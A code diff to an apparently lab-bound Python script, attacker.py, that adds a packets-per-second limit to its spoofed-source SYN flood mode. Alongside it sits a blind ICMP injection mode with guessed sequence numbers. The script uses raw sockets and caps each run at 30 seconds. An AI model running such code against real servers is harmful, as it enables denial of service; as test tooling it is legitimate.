@@ -10,10 +10,10 @@ builds a few thousand packets a second here, far below a flood's rate.
       name that connection with a sequence number half the space away (never
       in flight: what a blind guess almost always is), half random ports and
       random sequence numbers. Prints {"sent": N} on exit.
-  attacker.py synflood IFACE SERVER_MAC SERVER_IP PORT SECONDS SOURCES
+  attacker.py synflood IFACE SERVER_MAC SERVER_IP PORT SECONDS SOURCES PPS
       SYNs from SOURCES spoofed on-link addresses (198.18.0.10 up, random
-      MACs nobody answers ARP for) at the attacker's full speed. Prints
-      {"sent": N, "pps": R}.
+      MACs nobody answers ARP for), PPS a second (0: the attacker's full
+      speed). Prints {"sent": N, "pps": R}.
 Every loop is bounded by SECONDS (at most 30).
 """
 import json
@@ -106,7 +106,7 @@ def icmp(iface, server_ip, port, seconds, pps):
     return 0
 
 
-def synflood(iface, server_mac, server_ip, port, seconds, sources):
+def synflood(iface, server_mac, server_ip, port, seconds, sources, pps):
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     s.bind((iface, 0))
     dmac = bytes.fromhex(server_mac.replace(":", ""))
@@ -128,14 +128,19 @@ def synflood(iface, server_mac, server_ip, port, seconds, sources):
     t0 = time.monotonic()
     end = t0 + seconds
     send = s.send
+    batch = 64
     while time.monotonic() < end:
-        for f in frames[:512]:
+        for f in frames[:batch]:
             try:
                 send(f)
             except BlockingIOError:
                 pass
-        frames = frames[512:] + frames[:512]
-        sent += 512
+        frames = frames[batch:] + frames[:batch]
+        sent += batch
+        if pps:
+            d = t0 + sent / pps - time.monotonic()
+            if d > 0:
+                time.sleep(d)
     el = time.monotonic() - t0
     print(json.dumps({"sent": sent, "pps": round(sent / el)}))
     return 0
@@ -144,8 +149,9 @@ def synflood(iface, server_mac, server_ip, port, seconds, sources):
 def main(a):
     if len(a) == 6 and a[0] == "icmp":
         return icmp(a[1], a[2], int(a[3]), min(float(a[4]), 30), float(a[5]))
-    if len(a) == 7 and a[0] == "synflood":
-        return synflood(a[1], a[2], a[3], int(a[4]), min(float(a[5]), 30), int(a[6]))
+    if len(a) == 8 and a[0] == "synflood":
+        return synflood(a[1], a[2], a[3], int(a[4]), min(float(a[5]), 30), int(a[6]),
+                        float(a[7]))
     sys.stderr.write(__doc__)
     return 2
 
